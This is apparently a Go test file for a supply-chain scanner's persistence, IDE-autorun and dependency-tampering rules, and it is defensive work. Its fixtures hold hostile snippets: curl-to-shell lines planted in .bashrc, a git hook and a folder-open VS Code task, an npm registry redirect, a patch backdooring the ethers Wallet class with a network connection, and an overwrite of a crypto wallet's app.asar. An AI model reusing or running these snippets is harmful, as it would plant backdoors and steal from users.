package persist

import (
	"testing"

	"github.com/depfence/depfence/internal/finding"
	rt "github.com/depfence/depfence/internal/rules/rulestest"
)

func TestStartupEntry(t *testing.T) {
	rt.Check(t, StartupEntry{}, []rt.Case{
		{"bashrc", map[string]string{"index.js": `const fs=require("fs"),p=require("path"),os=require("os"); fs.appendFileSync(p.join(os.homedir(), ".bashrc"), "node ~/.x.js &")`}, finding.SeverityHigh},
		{"bashrc_download_exec", map[string]string{"index.js": `const fs=require("fs"); fs.appendFileSync(require("os").homedir() + "/.bashrc", "\ncurl -s http://x.invalid/b | sh &\n")`}, finding.SeverityCritical},
		// shell completion installers add a source line, not a download
		{"bashrc_completion", map[string]string{"index.js": `const fs=require("fs"); fs.appendFileSync(require("os").homedir() + "/.bashrc", "\n[ -f ~/.config/tabtab/__tabtab.bash ] && . ~/.config/tabtab/__tabtab.bash\n")`}, finding.SeverityHigh},
		{"xdg_autostart", map[string]string{"index.js": `const fs=require("fs"),os=require("os"),path=require("path"); const d = path.join(os.homedir(), ".config", "autostart"); fs.writeFileSync(path.join(d, "u.desktop"), entry)`}, finding.SeverityHigh},
		{"schtasks", map[string]string{"index.js": `require("child_process").exec("schtasks /create /sc onlogon /tn u /tr x.exe")`}, finding.SeverityHigh},
		{"scaffolds_workflow", map[string]string{"index.js": `require("fs").writeFileSync(".github/workflows/ci.yml", yaml)`}, finding.SeverityLow},
		{"worm_workflow", map[string]string{"index.js": `const fs=require("fs"); fs.writeFileSync(".github/workflows/x.yml", y); require("child_process").execSync("git push"); fetch("https://api.github.com/user/repos")`}, finding.SeverityHigh},
		// git hooks: planted curl | sh is critical, a hook installer medium
		{"git_hook_download_exec", map[string]string{"index.js": `const fs=require("fs"),path=require("path"); fs.writeFileSync(path.join(root, ".git", "hooks", "pre-commit"), "#!/bin/sh\ncurl -s http://x.invalid/h | sh\n")`}, finding.SeverityCritical},
		{"git_hook_installer", map[string]string{"index.js": `const fs=require("fs"); fs.writeFileSync(gitDir + "/.git/hooks/pre-commit", "#!/bin/sh\nnpx lint-staged\n", {mode: 0o755})`}, finding.SeverityMedium},
		{"hooks_path_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
			"i.js": `require("child_process").execSync("git config core.hooksPath .hooks")`}, finding.SeverityMedium},
		{"hooks_path_cli", map[string]string{"bin.js": `require("child_process").execSync("git config core.hooksPath .husky")`}, finding.SeverityNone},
		// the package manager's configuration, rewritten at install
		{"npmrc_registry_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
			"i.js": `const fs=require("fs"),os=require("os"); fs.appendFileSync(os.homedir() + "/.npmrc", "\nregistry=http://registry.example.invalid/\n")`}, finding.SeverityCritical},
		{"npmrc_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
			"i.js": `const fs=require("fs"),path=require("path"); fs.writeFileSync(path.join(process.env.INIT_CWD, ".npmrc"), "legacy-peer-deps=true\n")`}, finding.SeverityHigh},
		{"npmrc_config_tool", map[string]string{"cli.js": `const fs=require("fs"),os=require("os"); fs.writeFileSync(os.homedir() + "/.npmrc", "registry=https://registry.example.invalid/\n")`}, finding.SeverityNone},
		{"reads_bashrc", map[string]string{"index.js": `const fs=require("fs"); fs.existsSync("~/.bashrc")`}, finding.SeverityNone},
	})
}

func TestIDEAutorun(t *testing.T) {
	rt.Check(t, IDEAutorun{}, []rt.Case{
		{"curl_on_open", map[string]string{".vscode/tasks.json": `{"tasks":[{"command":"curl -s https://x.invalid/s | bash","runOptions":{"runOn":"folderOpen"}}]}`}, finding.SeverityCritical},
		{"build_on_open", map[string]string{".vscode/tasks.json": `{"tasks":[{"command":"npm run watch","runOptions":{"runOn":"folderOpen"}}]}`}, finding.SeverityHigh},
		{"normal_tasks", map[string]string{".vscode/tasks.json": `{"tasks":[{"command":"npm test"}]}`}, finding.SeverityNone},
	})
}

func TestTamperDependency(t *testing.T) {
	install := func(code string) map[string]string {
		return map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node p.js"}}`, "p.js": code}
	}
	rt.Check(t, TamperDependency{}, []rt.Case{
		{"resolve_and_write", install(`const fs = require("fs"), path = require("path");
const target = path.join(path.dirname(require.resolve("ethers")), "wallet", "wallet.js");
fs.writeFileSync(target, fs.readFileSync(target, "utf8").replace("class Wallet", "require('net').connect(4444,'203.0.113.7');class Wallet"))`), finding.SeverityHigh},
		{"node_modules_path", install(`require("fs").appendFileSync(require("path").join(process.cwd(), "node_modules/@solana/web3.js/lib/index.cjs.js"), hook)`), finding.SeverityHigh},
		// its own files, a cache, or only reading another package
		{"own_files", install(`require("fs").writeFileSync(require.resolve("x/package.json").replace("package.json", "dist/cfg.json"), "{}")`), finding.SeverityNone},
		{"own_scope", map[string]string{"package.json": `{"name":"@s/core","version":"1.0.0","scripts":{"postinstall":"node p.js"}}`,
			"p.js": `let w; try { w = require.resolve("@s/wasm") } catch {} if (!w) require("fs").renameSync("tmp/@s/wasm", "node_modules/@s/wasm")`}, finding.SeverityNone},
		{"scope_and_bare_name", map[string]string{"package.json": `{"name":"@prisma/client","version":"1.0.0","scripts":{"postinstall":"node p.js"}}`,
			"p.js": `const p = require.resolve("prisma/build/index.js"); require("fs").writeFileSync("node_modules/.prisma/client/index.js", gen(p))`}, finding.SeverityNone},
		{"version_check", install(`const v = JSON.parse(require("fs").readFileSync(require.resolve("react/package.json"))).version; require("fs").writeFileSync("dist/react-version.json", v)`), finding.SeverityNone},
		{"other_scope", map[string]string{"package.json": `{"name":"@s/core","version":"1.0.0","scripts":{"postinstall":"node p.js"}}`,
			"p.js": `require("fs").writeFileSync(require.resolve("@other/wallet"), x)`}, finding.SeverityHigh},
		{"cache_dir", install(`require("fs").writeFileSync("node_modules/.cache/x/state.json", "{}")`), finding.SeverityNone},
		{"reads_only", install(`const v = require("fs").readFileSync(require.resolve("ethers/package.json"), "utf8"); console.log(v)`), finding.SeverityNone},
		{"at_run_time", map[string]string{"index.js": `require("fs").writeFileSync(require.resolve("ethers"), patched)`}, finding.SeverityNone},
		// a desktop wallet's code, replaced wherever the file runs
		{"wallet_asar", map[string]string{"index.js": `const fs = require("fs"), path = require("path");
const dir = path.join(process.env.LOCALAPPDATA, "exodus"); for (const d of fs.readdirSync(dir)) https.get(u, r => r.pipe(fs.createWriteStream(path.join(dir, d, "resources", "app.asar"))))`}, finding.SeverityCritical},
		{"electron_builder_asar", map[string]string{"index.js": `const fs = require("fs"); fs.writeFileSync(path.join(out, "resources", "app.asar"), archive); log("atomic write done")`}, finding.SeverityNone},
	})
}
